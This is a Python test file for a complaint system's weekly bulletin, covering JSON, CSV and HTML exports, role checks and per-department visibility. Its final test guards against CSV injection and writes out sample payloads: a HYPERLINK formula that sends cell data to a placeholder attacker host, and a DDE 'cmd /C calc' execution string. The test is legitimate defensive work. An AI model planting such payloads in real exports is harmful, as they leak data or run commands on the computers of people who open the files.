"""The weekly bulletin (R4.7): on demand for any week, as JSON, CSV and HTML, and stored weekly."""

import csv
import io
from datetime import datetime, time, timedelta

import pytest
import sqlalchemy as sa

from app.calendar.rules import TZ
from app.complaints import rules
from app.complaints.models import ComplaintBulletin
from app.database import utcnow
from app.extensions import db
from app.jobs import queue, run
from app.workorders.models import WorkOrder
from tests.complaints.kit import notifications, rewind

JOB = "app.complaints.jobs.produce_weekly_bulletins"


def last_thursday_noon():
    """Thursday 12:00 (Shanghai) of the ISO week before this one."""
    year, week = rules.previous_week(utcnow())
    return datetime.combine(datetime.fromisocalendar(year, week, 4).date(), time(12), tzinfo=TZ)


@pytest.fixture
def bad_week(client, office, make, handed_off, run_jobs):
    """Last week, the water-quality department: justified, late, dissatisfied, overdue order."""
    make.zone()
    complaint = handed_off()
    rewind(complaint["id"], 25)
    queue("default").enqueue(run, "app.complaints.jobs.sweep_clocks")
    run_jobs()  # the 24-hour limit and the progress call are breached
    lead = office.h(office.lead)
    order = client.post(
        f"/api/complaints/{complaint['id']}/work-order",
        headers=lead,
        json={"type": "water_quality_check"},
    ).json["work_order"]
    client.post(
        f"/api/complaints/{complaint['id']}/resolution",
        headers=lead,
        json={"resolution": "已清洗水箱", "justified": True},
    )
    client.post(
        f"/api/complaints/{complaint['id']}/follow-up",
        headers=office.h(office.agent),
        json={
            "satisfied": False,
            "feedback": "处理太慢",
            "final_result": "已解决",
            "summary": "响应超时",
        },
    )
    shift = utcnow() - last_thursday_noon()
    rewind(complaint["id"], shift.total_seconds() / 3600)
    db.session.execute(
        sa.update(WorkOrder)
        .where(WorkOrder.id == order["id"])
        .values(
            created_at=WorkOrder.created_at - shift - timedelta(days=1),
            deadline_at=last_thursday_noon() - timedelta(hours=2),
        )
    )
    db.session.commit()
    return complaint


def test_on_demand_bulletin_counts_what_went_wrong_last_week(client, office, bad_week):
    year, week = rules.previous_week(utcnow())
    resp = client.get(f"/api/complaints/bulletins/{year}/{week}", headers=office.h(office.gm))
    assert resp.status_code == 200, resp.json
    by_code = {d["code"]: d for d in resp.json["departments"]}
    assert set(by_code) == {"WQ", "KF"}
    water = by_code["WQ"]
    assert water["counts"] == {
        "justified": 1,
        "breaches": 2,
        "dissatisfied": 1,
        "overdue_work_orders": 1,
    }
    assert {b["label"] for b in water["breaches"]} == {"处理时限", "进度告知时限"}
    assert water["justified"][0]["number"] == bad_week["number"]
    assert water["overdue_work_orders"][0]["label"] == "水质检测"
    assert sum(by_code["KF"]["counts"].values()) == 0
    this_year, this_week = rules.previous_week(utcnow() + timedelta(days=7))
    empty = client.get(
        f"/api/complaints/bulletins/{this_year}/{this_week}?department_id={office.department.id}",
        headers=office.h(office.lead),
    )
    assert [sum(d["counts"].values()) for d in empty.json["departments"]] == [0]


def test_csv_opens_in_excel_and_html_prints_in_chinese(client, office, bad_week):
    year, week = rules.previous_week(utcnow())
    url = f"/api/complaints/bulletins/{year}/{week}?department_id={office.department.id}"
    resp = client.get(url + "&format=csv", headers=office.h(office.gm))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.data.startswith(b"\xef\xbb\xbf")
    assert f"{year}-W{week:02d}" in resp.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    assert rows[0] == ["周次", "部门", "事项", "编号", "时间", "类别", "说明"]
    assert sorted(r[2] for r in rows[1:]) == sorted(
        ["经查属实的投诉", "超出时限", "超出时限", "回访不满意", "超期工单"]
    )
    assert all(r[1] == "水质管理部" for r in rows[1:])
    page = client.get(url + "&format=html", headers=office.h(office.gm))
    html = page.get_data(as_text=True)
    assert page.mimetype == "text/html" and '<html lang="zh-CN">' in html
    assert f"{year}年第{week}周客户投诉通报" in html and "@media" in html
    assert bad_week["number"] in html and "回访不满意" in html


def test_bad_weeks_and_roles(client, office, make):
    headers = office.h(office.gm)
    for url, field in (
        ("/api/complaints/bulletins/2026/54", "week"),
        ("/api/complaints/bulletins/2026/0", "week"),
        ("/api/complaints/bulletins/2026/10?format=pdf", "format"),
    ):
        resp = client.get(url, headers=headers)
        assert resp.status_code == 422 and field in resp.json["errors"], resp.json
    for user in (office.agent, make.technician().user):
        assert (
            client.get("/api/complaints/bulletins/2026/10", headers=office.h(user)).status_code
            == 403
        )
    assert (
        client.get(
            "/api/complaints/bulletins/2026/10", headers=office.h(office.dispatcher)
        ).status_code
        == 200
    )


def test_the_weekly_job_stores_each_departments_bulletin_once(client, office, bad_week, run_jobs):
    for _ in range(2):  # hourly runs: the second finds the week already stored
        queue("low").enqueue(run, JOB)
        run_jobs()
    year, week = rules.previous_week(utcnow())
    stored = db.session.scalars(sa.select(ComplaintBulletin).order_by(ComplaintBulletin.id)).all()
    assert [(b.iso_year, b.iso_week) for b in stored] == [(year, week)] * 2
    water = next(b for b in stored if b.department_id == office.department.id)
    assert water.data["counts"]["breaches"] == 2 and len(water.sha256) == 64
    assert {n.recipient_id for n in notifications("complaint_weekly_bulletin")} >= {
        office.gm.id,
        office.lead.id,
    }
    assert len(notifications("complaint_weekly_bulletin", office.gm)) == 2
    listed = client.get(
        f"/api/complaints/bulletins?year={year}&week={week}", headers=office.h(office.gm)
    ).json
    assert listed["total"] == 2
    assert {i["counts"]["justified"] for i in listed["items"]} == {0, 1}
    csv_text = client.get(
        f"/api/complaints/bulletins/{water.id}?format=csv", headers=office.h(office.gm)
    ).data.decode("utf-8-sig")
    assert bad_week["number"] in csv_text and "水质管理部" in csv_text
    as_json = client.get(f"/api/complaints/bulletins/{water.id}", headers=office.h(office.gm))
    assert as_json.json["departments"][0]["counts"] == water.data["counts"]
    assert (
        client.get("/api/complaints/bulletins/999999", headers=office.h(office.gm)).status_code
        == 404
    )


def test_a_lead_reads_only_their_own_departments_bulletins(client, office, bad_week, run_jobs):
    """Audit item 1: the complaint visibility rule holds for every bulletin route and format."""
    year, week = rules.previous_week(utcnow())
    other = office.h(office.supervisor)  # leads 客户服务中心, not 水质管理部
    water = office.department.id
    for fmt in ("json", "csv", "html"):
        resp = client.get(
            f"/api/complaints/bulletins/{year}/{week}?department_id={water}&format={fmt}",
            headers=other,
        )
        assert resp.status_code == 404, (fmt, resp.data[:200])
        assert bad_week["number"].encode() not in resp.data
    mine = client.get(f"/api/complaints/bulletins/{year}/{week}", headers=other).json
    assert [d["code"] for d in mine["departments"]] == ["KF"]
    queue("low").enqueue(run, JOB)
    run_jobs()
    stored = db.session.scalars(sa.select(ComplaintBulletin)).all()
    water_id = next(b.id for b in stored if b.department_id == water)
    listed = client.get("/api/complaints/bulletins", headers=other).json
    assert [i["department_id"] for i in listed["items"]] == [office.supervisor.team_id]
    for fmt in ("json", "csv", "html"):
        resp = client.get(f"/api/complaints/bulletins/{water_id}?format={fmt}", headers=other)
        assert resp.status_code == 404 and bad_week["number"].encode() not in resp.data
    own = client.get(f"/api/complaints/bulletins/{water_id}", headers=office.h(office.lead))
    assert own.status_code == 200 and own.json["departments"][0]["justified"]


def test_free_text_in_the_csv_never_runs_as_a_formula(client, office, handed_off):
    """Audit item 2 (OWASP CSV injection): = + - @ tab CR at a cell's start are made text."""
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
    for text in attacks:
        handed_off(description=text)
    year, week, _ = utcnow().astimezone(TZ).isocalendar()
    resp = client.get(
        f"/api/complaints/bulletins/{year}/{week}?format=csv", headers=office.h(office.gm)
    )
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    details = sorted(r[6] for r in rows[1:] if r[2] == "经查属实的投诉")
    assert details == sorted("'" + text for text in attacks)
